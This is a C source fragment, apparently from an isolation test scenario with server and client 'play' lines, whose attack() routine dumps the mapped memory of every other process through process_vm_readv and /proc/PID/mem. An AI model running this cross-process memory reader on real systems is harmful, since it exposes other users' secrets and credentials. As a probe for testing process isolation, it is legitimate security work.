/*
 * reads-memory.c - prints what it finds in the memory of everybody
 *
 * play: main 03 server
 * play: main 01 client
 * play: main 02 client
 * play: main 05 client
 */
static void
peep(pid_t pid)
{
    static char block[65536];
    static char line[65536];
    char path[64];

    snprintf(line, sizeof line, "%s", get("/proc/%d/maps", (int)pid));
    snprintf(path, sizeof path, "/proc/%d/mem", (int)pid);
    int fd = open(path, O_RDONLY);
    for (char *at = line; *at != '\0'; at += strcspn(at, "\n") + 1) {
        unsigned long from = strtoul(at, NULL, 16);
        struct iovec here = {block, sizeof block};
        struct iovec there = {(void *)from, sizeof block};
        ssize_t n = process_vm_readv(pid, &here, 1, &there, 1, 0);
        if (n <= 0 && fd != -1)
            n = pread(fd, block, sizeof block, (off_t)from);
        if (n > 0)
            (void)!write(1, block, (size_t)n);
        if (strchr(at, '\n') == NULL)
            break;
    }
    if (fd != -1)
        close(fd);
}

static void
attack(void)
{
    everybody(peep);
}
